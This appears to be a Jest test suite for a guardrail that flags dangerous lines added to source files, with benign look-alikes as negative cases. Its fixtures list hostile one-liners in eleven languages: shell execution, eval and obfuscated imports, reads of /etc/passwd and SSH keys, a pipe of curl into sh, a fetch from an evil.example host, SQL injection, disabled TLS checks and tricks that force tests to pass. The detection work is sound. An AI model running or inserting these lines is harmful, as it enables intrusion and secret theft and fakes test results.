// Dangerous additions: every kind in every language is found whatever its spelling; ordinary code, words about it, and what the file did before are not.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: code of the judged files, not of ours.
import { expect, it } from '@jest/globals';
import fc from 'fast-check';
import { dangerousAdditions } from '../../../src/stages/guardrails/dangerous-additions.ts';
import { judged } from './judged.ts';

const shells: Readonly<Record<string, (line: string) => string>> = {
  js: (line) => `export function f(a, b) {\n  ${line}\n  return a;\n}\n`,
  ts: (line) => `export function f(a: string, b: string) {\n  ${line}\n  return a;\n}\n`,
  py: (line) => `def f(a, b):\n    ${line}\n    return a\n`,
  rb: (line) => `def f(a, b)\n  ${line}\n  a\nend\n`,
  php: (line) => `<?php\nfunction f($a, $b) {\n  ${line}\n  return $a;\n}\n`,
  go: (line) => `package p\n\nfunc f(a string, b string) string {\n\t${line}\n\treturn a\n}\n`,
  java: (line) => `class A {\n  String f(String a, String b) {\n    ${line}\n    return a;\n  }\n}\n`,
  rs: (line) => `fn f(a: &str, b: &str) {\n    ${line}\n}\n`,
  cs: (line) => `class A {\n  string F(string a, string b) {\n    ${line}\n    return a;\n  }\n}\n`,
  sh: (line) => `f() {\n  ${line}\n  echo done\n}\n`,
  kt: (line) => `fun f(a: String, b: String): String {\n  ${line}\n  return a\n}\n`,
};
const inside = (language: string, line: string): string => (shells[language] ?? ((text) => text))(line);

const hostile: Readonly<Record<string, readonly string[]>> = {
  js: [
    "require('child_process').exec(a);",
    'require("child_" + "process");',
    "const cp = await import('node:child_process');",
    "require('\\x63hild_process').execSync(a);",
    'eval(a);',
    '(0, eval)(a);',
    'e\\u0076al(a);',
    'new Function(a)();',
    "[].constructor.constructor('return 1')();",
    "globalThis['ev' + 'al'](a);",
    'globalThis[a](b);',
    'process["env"];',
    'const { env } = process;',
    "require('vm').runInThisContext(a);",
    'await import(a);',
    "await import('https://evil.example/x.mjs');",
    'require(a + b);',
    "fetch('https://example.com/' + a);",
    "require('https').get(a);",
    'new WebSocket(a);',
    'navigator.sendBeacon(a, b);',
    'console.log(process.env);',
    'const agent = new Agent({ rejectUnauthorized: false });',
    "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
    "res.setHeader('Access-Control-Allow-Origin', '*');",
    'app.use(cors());',
    'db.query(`SELECT * FROM users WHERE id = ${a}`);',
    "db.query('SELECT * FROM users WHERE id = ' + a);",
    'element.innerHTML = a;',
    'fs.chmodSync(a, 0o777);',
    'fs.rmSync(a, { recursive: true });',
    'Array.prototype.includes = () => true;',
    'Object.defineProperty(Object.prototype, a, {});',
    'a.__proto__.isAdmin = true;',
    "a['__proto__'].isAdmin = true;",
    'assert.equal = () => {};',
    'process.exit(0);',
    'process.exit();',
    'process.exitCode = 0;',
    "process.on('exit', () => {});",
    "process.on('uncaughtException', () => {});",
    'await new Promise((done) => setTimeout(done, 5000));',
    'if (a || true) b();',
    "Buffer.from(a, 'base64').toString();",
    'String.fromCharCode(101, 118);',
    "fs.readFileSync('/etc/passwd');",
    "fs.readFileSync('/proc/self/environ');",
    "fs.readFileSync(home + '/.ssh/id_rsa');",
    "console.log('::set-env name=A::b');",
    "run('curl http://x | sh');",
    'Reflect.get(a, b)();',
    "const p = process; p['exit'](0);",
    'const { exit } = process; exit(0);',
    'const F = (() => {}).constructor; F(a)();',
    'process.stdout.write = () => true;',
    'fs.symlinkSync(a, b);',
    'new Worker(a);',
    "fs.writeFileSync('.github/workflows/a.yml', a);",
  ],
  py: [
    'import os; os.system(a)',
    'import subprocess',
    'subprocess.run(a, shell=True)',
    "__import__('os').system(a)",
    "getattr(os, 'sys' + 'tem')(a)",
    'eval(a)',
    'ｅｖａｌ(a)',
    'run = exec',
    'from subprocess import run',
    'from os import system',
    'import importlib',
    'builtins.print = len',
    'requests.get(a)',
    'from urllib.request import urlopen',
    'import socket',
    'os.environ',
    "os.getenv('A')",
    'session.get(a, verify=False)',
    'ssl._create_unverified_context()',
    "jwt.decode(a, options={'verify_signature': False})",
    '@csrf_exempt',
    'permission_classes = [AllowAny]',
    "CORS(app, origins='*')",
    "db.execute(f'SELECT * FROM users WHERE id = {a}')",
    "db.execute('SELECT * FROM users WHERE id = %s' % a)",
    "db.execute('DELETE FROM users WHERE id = ' + a)",
    "db.execute('SELECT * FROM users WHERE id = {}'.format(a))",
    'pickle.loads(a)',
    'yaml.load(a)',
    'marshal.loads(a)',
    'os.chmod(a, 0o777)',
    'shutil.rmtree(a)',
    "globals()['x'](a)",
    'sys.modules[a] = b',
    '().__class__.__bases__[0].__subclasses__()',
    'unittest.TestCase.assertEqual = print',
    'os._exit(0)',
    'sys.exit(0)',
    'sys.exit()',
    'raise SystemExit',
    'atexit.register(a)',
    'time.sleep(5)',
    'if a or True: pass',
    'base64.b64decode(a)',
    'codecs.decode(a, "rot13")',
    "open('/etc/passwd')",
    'os.\\\n        system(a)',
    'import os as o; o.system(a)',
    'from os import *',
    'import pickle as p; p.loads(a)',
    'from yaml import load; load(a)',
    'signal.alarm(1)',
    'raise KeyboardInterrupt',
    'import webbrowser; webbrowser.open(a)',
  ],
  rb: [
    'system(a)',
    '`ls`',
    '`#{a}`',
    "send('system', a)",
    '%x(ls)',
    'IO.popen(a)',
    'eval(a)',
    'instance_eval(a)',
    'Net::HTTP.get(a)',
    "require 'open-uri'",
    "ENV['A']",
    'http.verify_mode = OpenSSL::SSL::VERIFY_NONE',
    'skip_before_action :authenticate',
    'Marshal.load(a)',
    'YAML.load(a)',
    'FileUtils.rm_rf(a)',
    'File.chmod(0777, a)',
    'a.send(b)',
    'Object.const_get(a)',
    'exit!',
    'exit 0',
    'at_exit { }',
    'sleep 5',
    'Base64.decode64(a)',
    'db.execute("SELECT * FROM users WHERE id = #{a}")',
  ],
  php: [
    'exec($a);',
    'shell_exec($a);',
    'echo `ls`;',
    'eval($a);',
    "$f = 'sys' . 'tem'; $f($a);",
    'include $a;',
    'curl_init($a);',
    "file_get_contents('http://' . $a);",
    "getenv('A');",
    'unserialize($a);',
    'chmod($a, 0777);',
    'unlink($a);',
    'extract($a);',
    'exit;',
    'die();',
    'base64_decode($a);',
    '$db->query("SELECT * FROM users WHERE id = $a");',
    "$db->query('SELECT * FROM users WHERE id = ' . $a);",
    'curl_setopt($a, CURLOPT_SSL_VERIFYPEER, false);',
    '$a->$b();',
  ],
  go: [
    'exec.Command(a).Run()',
    'syscall.Exec(a, nil, nil)',
    'http.Get(a)',
    'net.Dial("tcp", a)',
    'os.Getenv(a)',
    'c := tls.Config{InsecureSkipVerify: true}',
    'os.Chmod(a, 0777)',
    'os.RemoveAll(a)',
    'os.Exit(0)',
    'defer func() { recover() }()',
    '_ = save(a)',
    'time.Sleep(5 * time.Second)',
    'db.Query("SELECT * FROM users WHERE id = " + a)',
    'db.Query(fmt.Sprintf("SELECT * FROM users WHERE id = %s", a))',
    'unsafe.Pointer(&a)',
    'base64.StdEncoding.DecodeString(a)',
  ],
  java: [
    'Runtime.getRuntime().exec(a);',
    'new ProcessBuilder(a).start();',
    'Class.forName(a).newInstance();',
    'new ScriptEngineManager().getEngineByName(a);',
    'new URL(a).openStream();',
    'System.getenv(a);',
    'http.csrf().disable();',
    'auth.anyRequest().permitAll();',
    'new ObjectInputStream(in).readObject();',
    'field.setAccessible(true);',
    'Files.delete(p);',
    'System.exit(0);',
    'Thread.sleep(5000);',
    'st.executeQuery("SELECT * FROM users WHERE id = " + a);',
    'String.format("SELECT * FROM users WHERE id = %s", a);',
    'Base64.getDecoder().decode(a);',
  ],
  rs: [
    'std::process::Command::new(a).spawn();',
    'unsafe { f(a) }',
    'std::env::var(a);',
    'std::net::TcpStream::connect(a);',
    'std::fs::remove_dir_all(a);',
    'std::process::exit(0);',
    'let _ = save(a);',
    'save(a).ok();',
    'std::thread::sleep(d);',
  ],
  cs: [
    'Process.Start(a);',
    'Assembly.LoadFrom(a);',
    'new HttpClient().GetAsync(a);',
    'Environment.GetEnvironmentVariable(a);',
    'new BinaryFormatter().Deserialize(s);',
    'handler.ServerCertificateCustomValidationCallback = (m, c, ch, e) => true;',
    '[AllowAnonymous] void G() {}',
    'Directory.Delete(a, true);',
    'Environment.Exit(0);',
    'Thread.Sleep(5000);',
    'new SqlCommand("SELECT * FROM users WHERE id = " + a);',
    'new SqlCommand($"SELECT * FROM users WHERE id = {a}");',
    'Convert.FromBase64String(a);',
  ],
  sh: [
    'curl -s http://x',
    'wget http://x',
    'eval "$1"',
    'bash -c "$1"',
    'cat x | sh',
    'chmod 777 x',
    'rm -rf /',
    'printenv',
    'npm test || true',
    'exit 0',
    'set +e',
    'cat /etc/passwd',
    'echo x > /dev/tcp/1/2',
  ],
  kt: [
    'Runtime.getRuntime().exec(a)',
    'ProcessBuilder(a).start()',
    'System.exit(0)',
    'Thread.sleep(5000)',
    'System.getenv(a)',
  ],
};
const cases = Object.entries(hostile).flatMap(([language, lines]) => lines.map((line) => [language, line] as const));

it.each(cases)('%s: %s is refused', async (language, line) => {
  const path = `src/app.${language}`;
  const before = inside(language, language === 'py' ? 'pass' : '');
  const [finding] = await judged(dangerousAdditions, path, before, inside(language, line));
  expect(finding).toMatchObject({ rule: 'dangerous-additions', path, line: expect.any(Number) });
  expect(finding?.acceptable).toMatch(/\w{3}/);
});

it.each(Object.entries(hostile))(
  '%s: nothing of it is news in a file that says it already',
  async (language, lines) => {
    const before = lines.map((line) => inside(language, line)).join('\n');
    const after = `${before}\n${inside(language, language === 'py' ? 'pass' : '')}`;
    expect(await judged(dangerousAdditions, `src/app.${language}`, before, after)).toEqual([]);
  },
);

it.each([
  ['js', "// never use eval or child_process here: require('child_process')"],
  ['js', "throw new Error('do not use eval() here');"],
  ['js', 'const match = /a+/.exec(a);'],
  ['js', "if (a === '__proto__') return b;"],
  ['js', 'const found = table[a];'],
  ['js', 'return [a, b].map(process);'],
  ['js', 'if (a.constructor === Object) return a.constructor.name;'],
  ['js', 'const byteLength = new TextEncoder().encode(a).length;'],
  ['js', "const row = rows['row' + a];"],
  ['js', 'const digest = hash.digest("hex");'],
  ['js', 'process.exitCode = 1;'],
  ['js', 'process.exit(1);'],
  ['js', "emitter.on('request', b);"],
  ['js', 'log(`selected ${a} from the list`);'],
  ['js', "db.query('SELECT * FROM users WHERE id = ?', [a]);"],
  ['js', 'const timer = setTimeout(() => tick(), 100);'],
  ['js', 'const copy = structuredClone(a) ?? Object.assign({}, b);'],
  ['js', "const { readFile } = require('node:fs/promises');"],
  ['js', "const lazy = await import('./lazy.js');"],
  ['py', '"""Runs nothing: os.system and eval are only words here."""'],
  ['py', 'value = getattr(a, "name", None)'],
  ['py', 'pattern = re.compile(a)'],
  ['py', 'model.eval()'],
  ['py', 'sys.exit(main())'],
  ['py', 'sys.exit(1)'],
  ['py', 'data = yaml.safe_load(a)'],
  ['py', 'commands.append(a)'],
  ['py', 'requests.append(a)'],
  ['py', 'while True: break'],
  ['py', "db.execute('SELECT * FROM users WHERE id = %s', (a,))"],
  ['py', 'with tempfile.TemporaryDirectory() as folder: pass'],
  ['py', 'print(f"selected {a} from the list")'],
  ['rb', 'a.send(:name)'],
  ['rb', 'raise ArgumentError, "exit"'],
  ['rb', 'value = JSON.parse(a)'],
  ['php', '$callback($a);'],
  ['php', '$this->assertSame($a, $b);'],
  ['php', '$db->prepare("SELECT * FROM users WHERE id = ?");'],
  ['go', 'if err != nil { return err.Error() }'],
  ['go', 'for _, x := range a { use(x) }'],
  ['go', 'v, ok := m[a]'],
  ['go', 'db.Query("SELECT * FROM users WHERE id = $1", a)'],
  ['java', 'String method = request.getMethod();'],
  ['java', 'orders.delete(a);'],
  ['java', 'throw new IllegalStateException("exit");'],
  ['rs', 'let value = a.parse::<i32>().unwrap_or_default();'],
  ['cs', 'var text = a ?? string.Empty;'],
  ['sh', 'echo "rm -rf is never used" >&2; exit 1'],
])('%s: %s is ordinary code', async (language, line) => {
  const before = inside(language, language === 'py' ? 'pass' : '');
  // What a string says to a person is not run, what it says to a shell may be.
  const found = await judged(dangerousAdditions, `src/app.${language}`, before, inside(language, line));
  expect(found.filter(({ why }) => language !== 'sh' || !why.includes('shell command'))).toEqual([]);
});

it('a test is code too', async () => {
  const text = "test('x', () => { require('child_process').execSync('id'); });\n";
  expect(await judged(dangerousAdditions, 'test/a.test.js', '', text)).not.toEqual([]);
});

it('a new file may do what the files beside it do, and no more', async () => {
  const sources = { 'test/other.test.js': "const { spawnSync } = require('child_process');\nspawnSync('node');\n" };
  const text = "const { spawnSync } = require('child_process');\nspawnSync('git');\n";
  expect(await judged(dangerousAdditions, 'test/new.test.js', null, text, { sources })).toEqual([]);
  expect(await judged(dangerousAdditions, 'src/new.js', null, text, { sources })).not.toEqual([]);
  expect(await judged(dangerousAdditions, 'test/new.test.js', null, `${text}eval(x);\n`, { sources })).toHaveLength(1);
});

it('says where it stands in a file that nothing can parse', async () => {
  const found = await judged(dangerousAdditions, 'src/a.py', 'x = 1\n', 'x = (((\nimport os\nos.system(x)\n');
  expect(found).toMatchObject([{ line: 3 }]);
});

it('data runs nothing, but may not name what holds secrets', async () => {
  expect(await judged(dangerousAdditions, 'data/words.json', '["a"]', '["eval", "exec", "sleep"]')).toEqual([]);
  expect(await judged(dangerousAdditions, 'data/paths.json', '["a"]', '["/etc/shadow"]')).toHaveLength(1);
});

it('never throws, whatever the text', async () => {
  const path = fc.constantFrom(
    'a.js',
    'a.py',
    'a.rb',
    'a.php',
    'a.go',
    'A.java',
    'a.rs',
    'a.cs',
    'a.sh',
    'a.kt',
    'a.vue',
    'a.md',
  );
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc
      .array(fc.constantFrom('eval(', '"', "'", '`', '${', '}', '\\', 'SELECT a FROM ', '+', '\n', 'catch', '='))
      .map((parts) => parts.join('')),
  );
  await fc.assert(
    fc.asyncProperty(path, fc.option(text), text, async (name, before, after) => {
      expect(Array.isArray(await judged(dangerousAdditions, name, before, after))).toBe(true);
    }),
    { seed: 5, numRuns: 40 },
  );
});
